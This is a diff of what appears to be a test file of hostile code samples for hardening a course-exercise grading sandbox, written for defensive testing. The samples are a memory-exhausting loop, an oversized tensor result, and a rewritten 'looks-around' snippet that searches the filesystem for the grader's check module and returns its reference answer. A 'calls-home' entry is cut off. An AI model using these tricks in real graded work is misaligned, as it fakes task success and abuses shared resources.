@@ -231,9 +231,10 @@ def hostile(right):
         "        x = bytearray(10**9)\n        for j in range(0, 10**9, 4096):\n"
         "            x[j] = 1\n        time.sleep(600)\ntime.sleep(600)",
         "huge-result": "def wasserstein1(x, y):\n    return torch.zeros(10**8)",
-        "looks-around": "import glob, os, sys\nfor p in [*sys.path, '/root', '/home', '/work']:\n"
-        "    for f in glob.glob(p + '/**/chapter_01.py', recursive=True):\n"
-        "        sys.path.insert(0, f.removesuffix('/gencourse/checks/chapter_01.py'))\n"
+        "looks-around": "import glob, sys\ntail = '/gencourse/checks/chapter_01.py'\n"
+        "for p in [*sys.path, '/root/**', '/home/**', '/work/**']:\n"
+        "    for f in glob.glob(p + tail, recursive=True):\n"
+        "        sys.path.insert(0, f.removesuffix(tail))\n"
         "import gencourse.checks.chapter_01 as c\n"
         "def wasserstein1(x, y): return c.wasserstein1.right(x, y)",
         "calls-home": "import socket, urllib.request\n"
